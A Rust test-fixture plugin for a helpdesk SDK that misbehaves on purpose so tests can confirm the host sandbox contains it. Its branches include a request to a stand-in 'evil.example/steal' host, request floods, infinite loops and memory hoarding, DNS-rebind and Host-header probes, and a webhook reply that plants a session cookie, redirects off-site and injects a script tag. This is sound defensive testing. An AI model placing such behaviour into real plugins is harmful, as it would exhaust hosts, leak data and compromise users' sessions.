//! Misbehaves in the one way its channel's `misbehave` config names, so the tests can show the
//! host contains it.

use helpdesk_plugin_sdk::prelude::*;
use std::hint::black_box;

struct Hostile;

fn message(n: usize, platform_id: &str) -> Event {
    let author = Author::new(format!("a{n}"), "Mallory");
    Event::Interaction(Interaction::new(platform_id, InteractionKind::PrivateMessage, Direction::Inbound, format!("t{n}"), author, "x".repeat(100), None))
}

impl Channel for Hostile {
    fn describe() -> ChannelInfo {
        ChannelInfo {
            platform: "hostile".into(),
            platform_name: "Hostile".into(),
            capabilities: vec![Capability::new(InteractionKind::PrivateMessage, &[ActionKind::Reply])],
            polls: true,
            webhooks: true,
            reply_window_hours: None,
            tagged_reply_window: None,
            settings: vec![Setting::config("misbehave", "What to do wrong"), Setting::config("target_url", "Where to send requests")],
            allowed_hosts: Vec::new(),
        }
    }

    fn fetch(_cursor: Option<String>) -> Result<Page, ChannelError> {
        let events = match config_or("misbehave", "").as_str() {
            "loop" => loop {
                black_box(0u64);
            },
            "alloc" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(black_box(vec![1u8; 1 << 20]));
                }
            }
            "panic" => panic!("hostile plugin panicked on purpose"),
            "huge" => (0..6_000).map(|n| message(n, &format!("m{n}"))).collect(),
            // One message with no id beside a good one: the good one must still get in.
            "malformed" => vec![message(0, ""), message(1, "kept-beside-a-bad-one")],
            "ungranted" => {
                Request::get("https://evil.example/steal").send()?;
                Vec::new()
            }
            "burst" => {
                let url = require_config("target_url")?;
                for _ in 0..5_000 {
                    Request::get(url.as_str()).send()?;
                }
                Vec::new()
            }
            // Probes of the host's outbound rules: each reports what it got as the error.
            "redirect" => {
                let resp = Request::get(require_config("target_url")?).send()?;
                return Err(err::permanent(format!("got HTTP {} (location {})", resp.status, resp.header("location").unwrap_or("none"))));
            }
            "forbidden_header" => {
                Request::get(require_config("target_url")?).header("Host", "evil.example").send()?;
                return Err(err::permanent("the Host header went out"));
            }
            "rebind" => {
                // Granted by name, but the name resolves to loopback.
                Request::get(require_config("target_url")?).send()?;
                return Err(err::permanent("reached a loopback address through a name"));
            }
            "kv_flood" => {
                for n in 0..20_000 {
                    if let Err(e) = kv_set(&format!("key{n}"), b"v") {
                        return Err(err::permanent(format!("kv refused after {n} keys: {e:?}")));
                    }
                }
                return Err(err::permanent("kv took 20000 keys"));
            }
            "absurd_time" => {
                let mut m = message(0, "far-future");
                if let Event::Interaction(i) = &mut m {
                    i.created_at = Some(9_000_000_000_000_000);
                }
                vec![m]
            }
            // One customer message to act on; replies are sent (counted by the target) and
            // reported without an id, as a platform answer missing its message id.
            "incomplete_reply" => vec![message(0, "to-answer")],
            // Not a misbehaviour: a page of 100 messages and no HTTP, what a bare call costs
            // (the benchmark's plugin section).
            "page" => (0..100).map(|n| message(n, &format!("p{n}"))).collect(),
            _ => Vec::new(),
        };
        Ok(Page { events, next_cursor: None, poll_after_ms: 1_000, quota: None, notice: None })
    }

    fn handle_webhook(request: HttpRequest) -> Result<WebhookOutcome, ChannelError> {
        match config_or("misbehave", "").as_str() {
            "webhook_loop" => loop {
                black_box(0u64);
            },
            "webhook_sleep" => std::thread::sleep(std::time::Duration::from_secs(3_600)),
            // An answer that would be dangerous served from the helpdesk's origin.
            "webhook_headers" => {
                let saw: Vec<String> = ["cookie", "authorization"]
                    .iter()
                    .filter(|h| request.header(h).is_some())
                    .map(|h| format!("saw-{h}"))
                    .collect();
                return Ok(WebhookOutcome {
                    response: HttpResponse {
                        status: 200,
                        headers: vec![
                            ("content-type".into(), "text/html".into()),
                            ("set-cookie".into(), "helpdesk_session=planted; Path=/".into()),
                            ("location".into(), "https://evil.example/".into()),
                        ],
                        body: format!("<script>alert(1)</script>{}", saw.join(",")).into_bytes(),
                    },
                    events: Vec::new(),
                });
            }
            "webhook_status" => return Ok(WebhookOutcome::reject(101, "switching")),
            "webhook_fail" => return Err(err::transient("this Page's entries could not be read")),
            "webhook_secret" => return Err(err::invalid_config("secret `app_secret` is not set")),
            _ => {}
        }
        Ok(WebhookOutcome::accept(Vec::new()))
    }

    fn perform(target: Target, action: Action) -> Result<ActionOutcome, ChannelError> {
        let Action::Reply(reply) = action else { return Err(err::unsupported("replies only")) };
        // The "platform" accepts the message...
        Request::post(require_config("target_url")?).json(&reply.text).send()?;
        // ...but the plugin cannot say which id it got.
        let mut sent = Interaction::new("", InteractionKind::PrivateMessage, Direction::Outbound, target.thread_key, Author::new("brand", "Brand"), reply.text, None);
        sent.parent_id = Some(target.platform_id);
        Ok(ActionOutcome { created: Some(sent) })
    }
}

export_channel!(Hostile);
